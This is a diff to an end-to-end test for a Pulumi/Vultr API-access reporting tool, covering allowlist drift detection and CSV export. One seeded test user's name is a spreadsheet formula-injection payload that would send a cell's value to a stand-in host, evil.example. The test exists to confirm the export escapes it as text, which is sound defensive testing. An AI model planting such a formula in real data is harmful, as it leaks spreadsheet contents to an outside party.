@@ -5,7 +5,9 @@
  * user installs it, joins that file with the live account.
  */
 import { spawn } from "node:child_process";
+import { readFile, writeFile } from "node:fs/promises";
 import * as path from "node:path";
+import { parse } from "csv-parse/sync";
 import { startEmulator, type RunningEmulator, type SeedUser } from "../../emulator";
 import type { ReportDocument } from "../../report/types";
 import { ALICE, CI_BOT } from "../../scripts/demo-account";
@@ -21,6 +23,9 @@ const PROJECT_ROOT = findProjectRoot(__dirname);
 
 /** API access nobody declared: the report must call it out. */
 const ERIN = { id: "0b7a4f64-4c1e-4b8e-9a51-1f3f3bd0e2a7", email: "erin@example.com", name: "Erin Hughes", api_enabled: true } satisfies SeedUser; // prettier-ignore
+
+/** A name a spreadsheet would run as a formula; the stack later declares an allowlist for her. */
+const FORMULA = { id: "5e0b2a8c-7d1f-4c3e-8a6b-2f9d4e1c7b30", email: "formula@example.com", name: '=HYPERLINK("https://evil.example/?d="&A1,"open")', api_enabled: true, ip_whitelist: [{ subnet: "185.199.108.0", subnet_size: 22 }] } satisfies SeedUser; // prettier-ignore
 
 const PROGRAM = `
 import { UserApiAccess } from "pulumi-vultr-user-access";
@@ -40,7 +45,10 @@ describeWithPulumiCli("vultr-api-access report with a real stack export", (cli) 
     // Active yesterday, so that drift is the only finding the test provokes.
     const lastActivity = new Date(Date.now() - 86_400_000).toISOString();
     emulator = await startEmulator({
-      users: [CI_BOT, ALICE, ERIN].map((user) => ({ ...user, last_activity: lastActivity })),
+      users: [CI_BOT, ALICE, ERIN, FORMULA].map((user) => ({
+        ...user,
+        last_activity: lastActivity,
+      })),
     });
     emulator.seedUsers(20, 5);
     pulumi = await LocalPulumi.create(cli());
@@ -119,5 +127,41 @@ describeWithPulumiCli("vultr-api-access report with a real stack export", (cli) 
     const document = JSON.parse(result.stdout) as ReportDocument;
     expect(userIn(document, ALICE.id)?.findings).toStrictEqual(["drift"]);
     expect(userIn(document, CI_BOT.id)?.findings).not.toContain("drift");
+  });
+
+  it("after the stack declares allowedIps: a drift gate without --allowlists says it did not check them; the CSV shows a formula name as text", async () => {
+    await writeFile(
+      path.join(stack.projectDir, "index.ts"),
+      `${PROGRAM}new UserApiAccess("formula", { userId: "${FORMULA.id}", apiEnabled: true, allowedIps: ["185.199.108.0/22"] });\n`,
+    );
+    await stack.run(["up", "--yes"]);
+    const exported = path.join(pulumi.rootDir, "report-e2e-allowlists.json");
+    await stack.run(["stack", "export", "--file", exported]);
+    emulator.setAllowlist(FORMULA.id, [{ subnet: "8.8.8.0", subnet_size: 24 }]); // changed by hand
+
+    const gate = ["report", "--format", "json", "--state", exported, "--fail-on", "drift"];
+    const unchecked = await report(gate);
+    const note =
+      "allowlist drift was not checked: 1 resource of the given stacks declares allowedIps " +
+      "(report-e2e/e2e:formula), but --allowlists was not given; add --allowlists to compare " +
+      "them with the account";
+    expect(unchecked).toMatchObject({ code: 0, stderr: `vultr-api-access: note: ${note}\n` });
+    expect((JSON.parse(unchecked.stdout) as ReportDocument).notes).toStrictEqual([note]);
+    const checked = await report([...gate, "--allowlists"]);
+    expect(checked).toMatchObject({
+      code: 3,
+      stderr: "vultr-api-access: failing on drift (1 user)\n",
+    });
+
+    const csv = path.join(pulumi.rootDir, "report.csv");
+    expect((await report(["report", "--allowlists", "--state", exported, "--out", csv])).code).toBe(
+      0,
+    );
+    const rows = parse<Record<string, string>>(await readFile(csv, "utf8"), { columns: true });
+    expect(rows.find((row) => row.id === FORMULA.id)).toMatchObject({
+      name: `'${FORMULA.name}`,
+      managedBy: "report-e2e/e2e:formula=true",
+      findings: "drift",
+    });
   });
 });
